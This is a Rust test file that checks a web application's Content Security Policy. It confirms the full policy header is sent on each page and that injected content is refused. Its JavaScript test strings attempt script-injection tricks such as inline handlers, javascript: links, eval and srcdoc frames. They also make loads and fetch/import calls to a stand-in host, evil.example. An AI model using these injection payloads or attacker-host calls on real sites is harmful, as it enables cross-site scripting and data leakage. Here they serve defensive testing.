//! Content that bypasses all sanitizing is rejected by the page's Content Security Policy.

use reqwest::Method;
use serde_json::json;

use crate::http::Server;
use crate::ui::page::Page;

/// The complete policy: any relaxation must be repeated here.
const POLICY: &str = "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; \
    img-src 'self' data: blob:; font-src 'self'; manifest-src 'self'; base-uri 'none'; form-action 'self'; \
    frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types dompurify";

#[tokio::test]
async fn each_address_of_the_page_has_the_whole_policy() {
    assert!(!POLICY.contains("unsafe") && !POLICY.contains('*'));
    let server = Server::start(&[]);
    for path in
        ["/", "/login", "/chat/thr_1", "/inbox", "/runs/run_1", "/library/policy", "/settings/keys", "/none"]
    {
        let answer = server.request(Method::GET, path).header("accept", "text/html").send().await.unwrap();
        let sent = answer.headers().get_all("content-security-policy").iter();
        let sent: Vec<&str> = sent.map(|value| value.to_str().unwrap()).collect();
        let status = if path == "/none" { 404 } else { 200 };
        assert_eq!((answer.status().as_u16(), sent), (status, vec![POLICY]), "{path}");
        assert_eq!(answer.headers()["x-dns-prefetch-control"], "off", "{path}");
    }
}

/// Attempts what injected text could attempt. Returns the directives that rejected it.
const INTRUDE: &str = r"
    const refused = new Set();
    addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
    const tries = [
        () => (document.createElement('div').innerHTML = '<b>text</b>'),
        () => document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/seen.png' })),
        () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
        () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' })),
        () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
        () => fetch('https://evil.example/').catch(() => {}),
        () => import('https://evil.example/x.js').catch(() => {}),
        () => (location.hash = '#stays'),
    ];
    for (const attempt of tries) try { attempt(); } catch { /* It was refused. */ }
    return new Promise((done) => setTimeout(() => done([...refused].sort()), 1000));";

#[tokio::test]
async fn what_gets_into_the_page_all_the_same_is_refused_by_its_policy() {
    let server = Server::start(&[]);
    let page = Page::signed_in(&server).await;
    let refused = page.run(INTRUDE, vec![]).await;
    let rules = [
        "base-uri",
        "connect-src",
        "frame-src",
        "img-src",
        "require-trusted-types-for",
        "script-src-elem",
        "style-src-elem",
    ];
    assert_eq!(refused, json!(rules));
}

/// Lets a script create other scripts in every possible way. Returns those that ran, and those without a violation.
const MAKE: &str = r"
    window.ran = [];
    const element = (name, change) => { const one = document.createElement(name); change(one); document.body.append(one); return one; };
    const tries = {
        'a script': () => element('script', (one) => one.append(`ran.push('a script')`)),
        'a script of SVG': () => document.body.append(document.createElementNS('http://www.w3.org/2000/svg', 'script')) ?? document.body.lastChild.append(`ran.push('a script of SVG')`),
        'a script of a blob': () => element('script', (one) => (one.src = URL.createObjectURL(new Blob([`ran.push('a script of a blob')`])))),
        'a handler': () => element('button', (one) => one.setAttribute('onclick', `ran.push('a handler')`)).click(),
        'a link': () => element('a', (one) => (one.href = `javascript:void ran.push('a link')`)).click(),
        'a frame': () => element('iframe', (one) => (one.srcdoc = `<script>parent.ran.push('a frame')</` + 'script>')),
        'a document': () => document.write(`<script>ran.push('a document')</` + 'script>'),
        'eval': () => (0, eval)(`ran.push('eval')`),
        'a function': () => new Function(`ran.push('a function')`)(),
        'a timer': () => setTimeout(`ran.push('a timer')`),
    };
    return (async () => {
        const passed = [];
        for (const [name, attempt] of Object.entries(tries)) {
            const refused = new Promise((done) => {
                addEventListener('securitypolicyviolation', () => done(true), { once: true });
                setTimeout(() => done(false), 3000);
            });
            try { attempt(); } catch { /* It was refused. */ }
            if (!(await refused)) passed.push(name);
        }
        return [window.ran, passed];
    })();";

/// The same constructs from the parser, which needs no script. Only `script-src` rejects them.
const PARSED: &str = r#"<div><img src="data:," onerror="ran.push('a handler of a picture')">
    <button id="pressed" onclick="ran.push('a handler')">press</button>
    <a id="followed" href="javascript:void ran.push('a link')">follow</a>
    <iframe id="framed" srcdoc="<script>parent.ran.push('a script')</script><p>A page.</p>"></iframe></div>"#;

#[tokio::test]
async fn no_script_runs_that_is_not_a_file_of_the_server() {
    let server = Server::start(&[]);
    let page = Page::signed_in(&server).await;
    assert_eq!(page.run(MAKE, vec![]).await, json!([[], []]), "what ran, and what nothing refused");

    let place = "window.refused = [];
        addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
        document.body.append(Object.assign(document.createElement('p'), { id: 'place' }))";
    page.run(place, vec![]).await;
    let whole = page.devtools("DOM.getDocument", json!({"depth": 0})).await;
    let found = json!({"nodeId": whole["root"]["nodeId"], "selector": "#place"});
    let found = page.devtools("DOM.querySelector", found).await;
    page.devtools("DOM.setOuterHTML", json!({"nodeId": found["nodeId"], "outerHTML": PARSED})).await;
    let framed = "return document.getElementById('framed').contentDocument?.querySelector('p') !== null";
    page.until("the frame has its page", framed).await;
    page.run(
        "document.getElementById('pressed').click(); document.getElementById('followed').click()",
        vec![],
    )
    .await;
    let all = "return window.ran.length + window.refused.length >= 3 && [window.ran, window.refused.sort()]";
    let outcome = page.until("each was tried", all).await;
    assert_eq!(outcome, json!([[], ["script-src-attr", "script-src-attr", "script-src-elem"]]));
}
